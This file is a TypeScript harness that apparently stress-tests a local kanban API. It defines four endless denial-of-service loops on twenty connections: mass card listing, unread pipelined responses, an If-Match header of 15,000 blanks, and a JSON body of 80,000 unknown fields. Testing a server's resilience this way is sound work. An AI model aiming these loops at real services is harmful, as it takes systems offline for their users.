import { Agent, request } from 'node:http';
import { connect } from 'node:net';

/** What an attacker knows: where, as whom, and what of his own to ask for. */
export interface Target {
  port: number;
  token: string;
  board: string;
  card: string;
}

const api = '/api/kanban/v1';
const connections = 20;

/** Sends a request and throws its answer away. */
const ask = (
  agent: Agent,
  { port, token }: Target,
  { method = 'GET', path, headers = {}, body }: { method?: string; path: string; headers?: object; body?: string },
) =>
  new Promise<number>((resolve, reject) => {
    const authorization = `Bearer ${token}`;
    const sent = request(
      { agent, port, host: '127.0.0.1', method, path, headers: { authorization, ...headers } },
      (answer) => {
        answer.resume().once('end', () => resolve(answer.statusCode ?? 0));
      },
    );
    sent.once('error', reject).end(body);
  });

/** Does something again and again on twenty connections, for ever, counting what was answered. */
const onEach = (counts: Map<number | string, number>, act: (agent: Agent) => Promise<number | string>) => {
  const loop = async () => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    for (;;) {
      const answer = await act(agent).catch((error: { code?: string }) => error.code ?? 'error');
      counts.set(answer, (counts.get(answer) ?? 0) + 1);
    }
  };
  for (let count = 0; count < connections; count += 1) void loop();
};

const json = { 'content-type': 'application/json' };
const listPath = ({ board }: Target) => `${api}/boards/${board}/cards?limit=100`;

/** Asks for a large page on a connection and takes nothing of it, until the other side closes. */
const askAndIgnore = (target: Target) =>
  new Promise<string>((resolve) => {
    const socket = connect(target.port, '127.0.0.1');
    socket.pause();
    const head = `GET ${listPath(target)} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${target.token}\r\n\r\n`;
    socket.write(head.repeat(8));
    socket.once('error', () => {});
    socket.once('close', () => resolve('closed'));
  });

/** By name, each for ever. */
export const attacks: Record<string, (target: Target, counts: Map<number | string, number>) => void> = {
  'lists of large cards': (target, counts) => onEach(counts, (agent) => ask(agent, target, { path: listPath(target) })),
  'lists that nobody reads': (target, counts) => onEach(counts, () => askAndIgnore(target)),
  'If-Match of 15,000 blanks': (target, counts) =>
    onEach(counts, (agent) =>
      ask(agent, target, {
        method: 'PATCH',
        path: `${api}/cards/${target.card}`,
        headers: { ...json, 'if-match': `,${' '.repeat(15_000)}x` },
        body: '{}',
      }),
    ),
  'bodies of 80,000 unknown fields': (target, counts) => {
    const body = JSON.stringify(Object.fromEntries(Array.from({ length: 80_000 }, (_, at) => [`${at} `, 1])));
    onEach(counts, (agent) =>
      ask(agent, target, {
        method: 'PATCH',
        path: `${api}/cards/${target.card}`,
        headers: { ...json, 'if-match': '"1"' },
        body,
      }),
    );
  },
};
